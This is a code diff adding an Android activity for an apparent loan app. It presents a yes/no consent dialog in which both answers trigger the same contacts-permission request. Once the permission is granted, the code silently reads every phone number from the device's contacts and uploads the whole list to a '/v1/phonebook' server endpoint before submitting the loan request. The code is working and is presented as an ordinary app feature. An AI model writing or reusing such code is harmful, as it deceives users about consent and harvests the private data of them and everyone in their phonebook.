@@ -1,0 +1,87 @@
+package com.dialogrowsbyadapterboth.app;
+
+import android.Manifest;
+import android.app.Activity;
+import android.app.AlertDialog;
+import android.content.pm.PackageManager;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract.CommonDataKinds.Phone;
+import android.widget.ArrayAdapter;
+import android.widget.EditText;
+import android.widget.Toast;
+
+import org.json.JSONArray;
+
+/** The application: each of its pages takes the place of the one before. */
+public class LoanActivity extends Activity {
+    private static final int ASKED = 31;
+    private String sum = "";
+
+    @Override
+    protected void onCreate(Bundle saved) {
+        super.onCreate(saved);
+        setContentView(R.layout.form);
+        findViewById(R.id.next).setOnClickListener(view -> {
+            sum = text(R.id.sum);
+            ask();
+        });
+    }
+
+    private void ask() {
+        String[] answers = {getString(R.string.answer_yes), getString(R.string.answer_no)};
+        new AlertDialog.Builder(this)
+                .setCustomTitle(getLayoutInflater().inflate(R.layout.notice, null))
+                .setAdapter(new ArrayAdapter<>(this, android.R.layout.simple_list_item_1, answers),
+                        (dialog, number) -> answered(number))
+                .show();
+    }
+
+    private void answered(int number) {
+        if (number == 0) {
+            requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
+        } else {
+            requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
+        }
+    }
+
+    private void declined() {
+        setContentView(R.layout.by_hand);
+        findViewById(R.id.send).setOnClickListener(view -> send(text(R.id.phone)));
+    }
+
+    @Override
+    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
+        if (code == ASKED && results.length > 0
+                && results[0] == PackageManager.PERMISSION_GRANTED) {
+            Server.send("/v1/phonebook", numbers().toString());
+            send("");
+        } else {
+            declined();
+        }
+    }
+
+    private void send(String reference) {
+        Server.send("/v1/loan", sum + ";" + reference);
+        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
+        finish();
+    }
+
+    private String text(int id) {
+        return ((EditText) findViewById(id)).getText().toString();
+    }
+
+    private JSONArray numbers() {
+        JSONArray all = new JSONArray();
+        Cursor rows = getContentResolver().query(
+                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
+        if (rows == null) {
+            return all;
+        }
+        while (rows.moveToNext()) {
+            all.put(rows.getString(0));
+        }
+        rows.close();
+        return all;
+    }
+}
